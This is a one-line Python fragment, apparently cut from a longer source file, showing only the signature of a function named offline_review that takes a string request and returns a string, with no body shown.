 def offline_review(request: str) -> str:
